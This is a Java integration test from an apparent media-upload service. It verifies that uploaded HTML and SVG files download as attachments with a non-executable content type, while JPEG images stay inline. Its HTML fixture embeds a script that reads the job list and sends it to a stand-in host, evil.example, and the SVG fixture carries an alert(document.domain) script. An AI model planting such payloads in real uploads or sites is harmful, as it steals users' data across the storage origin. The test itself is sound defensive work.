package io.aegis.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.aegis.testmedia.TestImages;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/**
 * An uploaded HTML or SVG file carries scripts that would run on the storage's origin if a browser opened it: its
 * presigned original URL downloads it as an attachment with a type no browser executes. Pictures stay inline.
 */
class SafeOriginalsIT extends PipelineTestSupport {

    static final String HTML = "<!doctype html><html><body><h1>Quarterly notes</h1>"
            + "<script>fetch('/v1/jobs').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>"
            + "<p>The board met on Tuesday and agreed the plan.</p></body></html>";
    static final String SVG = "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
            + "<script>alert(document.domain)</script><rect width=\"10\" height=\"10\"/></svg>";

    final HttpClient client = HttpClient.newHttpClient();

    @Test
    void htmlAndSvgOriginalsAreDownloadedAsAttachments() throws Exception {
        String token = localToken();
        for (var upload : new String[][] {{"notes.html", HTML}, {"badge.svg", SVG}}) {
            JsonNode asset = assetOf(token, upload[0], upload[1].getBytes(StandardCharsets.UTF_8));
            HttpResponse<byte[]> original = fetch(asset.path("originalUrl").asText());

            assertThat(original.statusCode()).as(upload[0]).isEqualTo(200);
            assertThat(original.headers().firstValue("Content-Disposition").orElse(""))
                    .as(upload[0]).startsWith("attachment").contains(upload[0]);
            assertThat(original.headers().firstValue("Content-Type").orElse(""))
                    .as(upload[0]).startsWith("application/octet-stream");
            assertThat(new String(original.body(), StandardCharsets.UTF_8)).as("the file itself").isEqualTo(upload[1]);
        }
    }

    @Test
    void aPictureIsStillShownInline() throws Exception {
        JsonNode asset = assetOf(localToken(), "photo.jpg", TestImages.jpeg(64, 48));
        HttpResponse<byte[]> original = fetch(asset.path("originalUrl").asText());

        assertThat(original.headers().firstValue("Content-Type")).hasValue("image/jpeg");
        assertThat(original.headers().firstValue("Content-Disposition").orElse("")).doesNotStartWith("attachment");
    }

    private JsonNode assetOf(String token, String filename, byte[] content) {
        String jobId = uploadAccepted(token, filename, content);
        return assetOf(token, awaitTerminal(token, jobId));
    }

    private HttpResponse<byte[]> fetch(String url) throws Exception {
        assertThat(url).startsWith("http");
        return client.send(HttpRequest.newBuilder(URI.create(url)).build(), HttpResponse.BodyHandlers.ofByteArray());
    }
}
